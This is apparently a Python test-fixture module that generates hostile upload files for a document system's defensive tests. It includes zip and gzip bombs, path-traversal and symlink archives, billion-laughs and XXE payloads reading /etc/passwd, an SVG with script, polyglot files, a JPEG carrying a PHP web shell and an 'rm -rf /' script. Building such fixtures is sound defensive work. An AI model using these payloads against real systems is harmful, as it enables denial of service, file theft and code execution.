"""Archives, office files, mail, web pages, programs, and files that are two things at once."""

import gzip
import io
import stat
import zipfile
from collections.abc import Callable, Mapping

import PIL.Image

from dms.demo.hostile import good_pdf
from tests.hostile.parts import MIB, deflated

CALLS = "http://127.0.0.1:9/hostile"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "lol">{ENTITIES}]><l>&a9;</l>'
XXE = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "{CALLS}">]>'


def archive(entries: Mapping[str, bytes | str]) -> bytes:
    """A ZIP of names and contents."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in entries.items():
            file.writestr(name, data)
    return out.getvalue()


def zip_bomb() -> bytes:
    return archive({f"{n}.txt": b"\0" * (64 * MIB) for n in range(8)})


def zip_in_zip() -> bytes:
    inner = archive({"leeg.txt": b"\0" * MIB})
    for _ in range(50):
        inner = archive({"binnen.zip": inner, "ook.zip": inner[:1000]})
    return inner


def zip_that_climbs() -> bytes:
    names = ("../../../../tmp/x.sh", "/etc/cron.d/x", "..\\..\\x.exe", "C:\\x.exe", "con.txt", "a\u202efdp.exe")
    return archive(dict.fromkeys(names, b"#!/bin/sh\n"))


def zip_with_a_link() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        link = zipfile.ZipInfo("link")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        file.writestr(link, "/etc/passwd")
    return out.getvalue()


def zip_cut_off() -> bytes:
    return archive({"brief.pdf": good_pdf()})[:-30]


def gzip_bomb() -> bytes:
    return gzip.compress(b"\0" * (200 * MIB))


def _word(document: str, relations: str = "") -> bytes:
    types = f'<Types xmlns="x"><Override PartName="/word/document.xml" ContentType="{WORD}"/></Types>'
    return archive(
        {"[Content_Types].xml": types, "word/document.xml": document, "word/_rels/document.xml.rels": relations}
    )


def word_that_calls() -> bytes:
    image = f'<Relationships><Relationship Id="r" Type="image" Target="{CALLS}" TargetMode="External"/></Relationships>'
    return _word(f'<document><instrText>INCLUDEPICTURE "{CALLS}"</instrText></document>', image)


def word_with_entities() -> bytes:
    return _word(f"{XXE}<document>&a;&b;</document>")


def word_that_laughs() -> bytes:
    return _word(LAUGHS)


def xml_that_laughs() -> bytes:
    return LAUGHS.encode()


def drawing_that_calls() -> bytes:
    body = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{CALLS}"/><script>alert(1)</script>&a;&b;</svg>'
    return (XXE + body).encode()


def old_office() -> bytes:
    return bytes.fromhex("d0cf11e0a1b11ae1") + b"\xff" * 4096


def mail_with_a_program() -> bytes:
    head = "From: a@x.example\nTo: b@x.example\nSubject: x\nMIME-Version: 1.0\n"
    parts = "--b\nContent-Type: x/y\n\nx\n" * 20_000
    return f'{head}Content-Type: multipart/mixed; boundary="b"\n\n{parts}--b--\n'.encode()


def web_page() -> bytes:
    return f"<!DOCTYPE html><html><script src='{CALLS}'></script><img src='{CALLS}'></html>".encode()


def program() -> bytes:
    return b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0L\1" + b"\0" * 500


def shell_script() -> bytes:
    return b"#!/bin/sh\nrm -rf /\n"


def page_and_archive() -> bytes:
    """A PDF with a ZIP behind it: both open it."""
    return good_pdf() + archive({"x.sh": b"#!/bin/sh\n"})


def archive_and_page() -> bytes:
    """A ZIP with a PDF in it, unpacked, so that both find their beginning."""
    return b"%PDF-1.4\n" + archive({"brief.pdf": good_pdf()})


def web_page_and_pdf() -> bytes:
    return b"<html><body><!--\n" + good_pdf() + b"--></body></html>"


def photo_and_script() -> bytes:
    out = io.BytesIO()
    PIL.Image.linear_gradient("L").save(out, "JPEG", comment=b"*/=1;alert(1)/*<script>alert(1)</script>")
    return out.getvalue() + b"\n<?php system($_GET['x']); ?>"


def photo_and_archive() -> bytes:
    out = io.BytesIO()
    PIL.Image.linear_gradient("L").save(out, "PNG")
    return out.getvalue() + archive({"x.sh": b"#!/bin/sh\n"})


def postscript() -> bytes:
    return b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file { } loop\n"


def noise() -> bytes:
    return deflated(MIB)[::-1] + bytes(range(256)) * 40


def nothing() -> bytes:
    return b""


PACKED: Mapping[str, Callable[[], bytes]] = {
    "bom.zip": zip_bomb,
    "in elkaar.zip": zip_in_zip,
    "klimt.zip": zip_that_climbs,
    "wijst weg.zip": zip_with_a_link,
    "half.zip": zip_cut_off,
    "bom.gz": gzip_bomb,
    "bom.pdf": zip_bomb,
    "belt.docx": word_that_calls,
    "entiteiten.docx": word_with_entities,
    "lacht.docx": word_that_laughs,
    "lacht.xml": xml_that_laughs,
    "belt.svg": drawing_that_calls,
    "belt.png": drawing_that_calls,
    "oud.doc": old_office,
    "bericht.eml": mail_with_a_program,
    "bladzijde.html": web_page,
    "bladzijde.pdf": web_page,
    "programma.exe": program,
    "programma.pdf": program,
    "opdracht.sh": shell_script,
    "opdracht.jpg": shell_script,
    "pdf en zip.pdf": page_and_archive,
    "zip en pdf.pdf": archive_and_page,
    "web en pdf.pdf": web_page_and_pdf,
    "foto en script.jpg": photo_and_script,
    "foto en zip.png": photo_and_archive,
    "postscript.pdf": postscript,
    "ruis.tif": noise,
    "ruis.pdf": noise,
    "niets.jpg": nothing,
    "verkeerde naam.jpg": good_pdf,
    "verkeerde naam.exe": good_pdf,
}
"""Each by its file name, which often says something else."""
